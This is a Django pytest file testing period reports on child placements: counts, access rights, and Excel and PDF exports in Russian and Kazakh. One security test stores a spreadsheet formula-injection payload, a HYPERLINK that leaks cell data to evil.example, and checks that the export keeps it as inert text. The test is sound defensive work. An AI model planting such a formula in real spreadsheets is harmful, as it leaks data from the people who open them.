"""The period report to the Education Department: a month, a quarter or a year."""

import datetime
import io
import re

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from families.models import Sex
from placements import services
from placements.models import Placement
from stats import reports
from stats.indicators import Period

pytestmark = pytest.mark.django_db

URL = "/staff/reports/"
D = datetime.date


def test_a_part_of_the_year_is_a_month_a_quarter_or_the_whole_year():
    assert reports.period_of(2024, "2") == Period(D(2024, 2, 1), D(2024, 2, 29))
    assert reports.period_of(2025, "q4") == Period(D(2025, 10, 1), D(2025, 12, 31))
    assert reports.period_of(2025, "") == Period.year_of(2025)


def test_only_administrators_see_the_reports(client, social_worker, administrator):
    assert client.get(URL).status_code == 302
    client.force_login(social_worker)
    assert client.get(URL).status_code == 403
    client.force_login(administrator)
    assert client.get(URL).status_code == 200


@pytest.fixture
def march_2025(make_child, make_placement, administrator):
    """In March 2025: one child in care since February who went home on 20 March, two
    admitted (a girl of 3 months, a boy of 2 years), one of them still in care."""
    before = make_placement(
        child=make_child(date_of_birth=D(2024, 6, 1)), admitted_on=D(2025, 2, 10)
    )
    services.placement_close(
        placement=before, outcome=Placement.Outcome.RETURNED, on=D(2025, 3, 20), by=administrator
    )
    girl = make_placement(
        child=make_child(date_of_birth=D(2024, 12, 1), sex=Sex.FEMALE),
        admitted_on=D(2025, 3, 3),
        crisis_reason=Placement.CrisisReason.HOUSING,
    )
    services.placement_close(
        placement=girl, outcome=Placement.Outcome.GUARDIANSHIP, on=D(2025, 3, 30),
        by=administrator,
    )  # fmt: skip
    make_placement(
        child=make_child(date_of_birth=D(2023, 1, 15), sex=Sex.MALE),
        admitted_on=D(2025, 3, 25),
        crisis_reason=Placement.CrisisReason.HOUSING,
    )


def test_the_report_counts_the_months_movement_ages_sexes_and_stays(march_2025, today):
    report = reports.compute_report(reports.period_of(2025, "3"), today)

    assert (report["in_care_at_start"], report["in_care_at_end"]) == (1, 1)
    counts = report["data"]["counts"]
    assert (counts["opened"], counts["closed"], counts["returned"]) == (2, 2, 1)
    assert [n for _label, n in report["by_age"]] == [1, 0, 1, 0]
    assert dict(report["by_sex"]) == {"female": 1, "male": 1}
    assert dict(report["by_reason"])["housing"] == 2
    assert report["average_stay"] == (38 + 27) / 2  # 10 Feb–20 Mar, 3–30 Mar
    assert report["data"]["median_stay"] == 27


def test_a_period_before_the_first_record_says_no_records(client, administrator, march_2025):
    client.force_login(administrator)

    html = client.get(URL, {"year": 2024, "part": "q1"}).content.decode()

    assert "No records for this period: the portal's records begin on 10.02.2025." in html
    assert reports.compute_report(reports.period_of(2024, ""), D(2026, 1, 1)) is None


def test_the_report_downloads_as_a_workbook_in_the_users_language(
    client, administrator, march_2025
):
    administrator.language = "ru"
    administrator.save()
    client.force_login(administrator)

    response = client.get(URL, {"year": 2025, "part": "3", "download": "xlsx"})

    assert response["Content-Disposition"] == (
        'attachment; filename="report-2025-03-01-2025-03-31.xlsx"'
    )
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    rows = {row[0]: row[1] for row in sheet.iter_rows(values_only=True) if row[0]}
    assert "Отчёт за период 01.03.2025–31.03.2025" in rows
    assert rows["Поступили за период"] == 2 and rows["В учреждении на начало периода"] == 1
    assert rows["До 1 года"] == 1 and rows["Женский"] == 1


def test_the_page_shows_each_table(client, administrator, march_2025):
    client.force_login(administrator)

    html = client.get(URL, {"year": 2025, "part": "3"}).content.decode()

    assert "Admitted, by age on admission" in html
    assert '<th scope="row">Under 1 year</th><td>1</td>' in html
    assert "download=xlsx" in html


def test_the_report_costs_the_same_queries_whatever_the_data(
    client, administrator, march_2025, many_placements, django_assert_max_num_queries
):
    client.force_login(administrator)
    with django_assert_max_num_queries(30) as few:
        client.get(URL, {"year": 2025, "part": "3"})
    many_placements(60)

    with django_assert_max_num_queries(len(few.captured_queries)):
        client.get(URL, {"year": 2025, "part": "3"})


def test_the_report_prints_as_a_pdf_in_kazakh(client, administrator, march_2025):
    administrator.language = "kk"
    administrator.save()
    client.force_login(administrator)

    response = client.get(URL, {"year": 2025, "part": "3", "download": "pdf"})

    assert response["Content-Type"] == "application/pdf"
    text = " ".join(p.extract_text() for p in PdfReader(io.BytesIO(response.content)).pages)
    assert "Кезең бойынша есеп" in text and "Қабылданғандар, жынысы бойынша" in text


def test_a_formula_in_the_homes_name_is_text_in_the_administrators_workbook(
    client, administrator, march_2025
):
    """Security #4: the content editor types the home's name; the administrators open
    the report in Excel."""
    from content.models import Home

    home = Home.load()
    home.name_en = '=HYPERLINK("https://evil.example/?"&A3,"Open")'
    home.save()
    administrator.language = "en"
    administrator.save()
    client.force_login(administrator)

    response = client.get(URL, {"year": 2025, "part": "3", "download": "xlsx"})

    first = load_workbook(io.BytesIO(response.content)).worksheets[0]["A1"]
    assert first.data_type == "s"
    assert first.value == '=HYPERLINK("https://evil.example/?"&A3,"Open")'
    assert b"<f>" not in _sheet_xml(response.content)


def _sheet_xml(content):
    import zipfile

    with zipfile.ZipFile(io.BytesIO(content)) as book:
        return b"".join(book.read(n) for n in book.namelist() if n.startswith("xl/worksheets/"))


@pytest.mark.parametrize("kind", ["xlsx", "pdf"])
def test_on_first_opening_the_download_links_download_the_report_shown(
    client, administrator, march_2025, kind
):
    """Product F2: the links of the page as first opened carried only ?download=…, and
    the browser saved the page itself."""
    client.force_login(administrator)
    page = client.get(URL).content.decode()
    link = re.search(rf'href="\?([^"]*download={kind})"', page).group(1).replace("&amp;", "&")

    response = client.get(f"{URL}?{link}")
    bare = client.get(URL, {"download": kind})

    for answer in (response, bare):
        assert answer["Content-Disposition"].startswith(
            "attachment" if kind == "xlsx" else "inline"
        )
        assert not answer.content.startswith(b"<!doctype")
